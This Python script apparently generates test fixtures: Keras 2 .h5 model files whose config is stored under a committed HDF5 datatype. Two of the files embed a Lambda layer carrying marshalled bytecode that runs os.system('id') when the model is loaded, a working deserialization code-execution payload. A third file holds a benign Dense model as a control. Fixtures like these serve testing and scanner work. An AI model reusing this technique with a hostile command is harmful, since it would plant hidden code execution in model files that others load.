# Writes Keras 2 style .h5 files whose model_config attribute is typed by a
# committed (named) HDF5 datatype, as h5py does for
# attrs.create(..., dtype=f["name"]). Run with Debian's python3-h5py:
#   /usr/bin/python3 make_committed_h5.py
import base64
import json
import marshal

import h5py
import numpy as np

code = base64.b64encode(marshal.dumps((lambda x: __import__("os").system("id") or x).__code__)).decode()
lam = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"}},
    {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                         "function": [code, None, None], "function_type": "lambda",
                                         "module": "__main__", "output_shape": None, "arguments": {}}}]}}
dense = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"}},
    {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu", "use_bias": True}}]}}


def write(name, cfg, fixed):
    s = json.dumps(cfg)
    with h5py.File(name, "w") as f:
        if fixed:
            f["config_t"] = np.dtype("S%d" % len(s))
            f.attrs.create("model_config", np.array(s.encode(), dtype=f["config_t"].dtype), dtype=f["config_t"])
        else:
            f["config_t"] = h5py.string_dtype()
            f.attrs.create("model_config", s, dtype=f["config_t"])
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"


write("committed_vlen_lambda.h5", lam, False)
write("committed_fixed_lambda.h5", lam, True)
write("committed_vlen_dense.h5", dense, False)
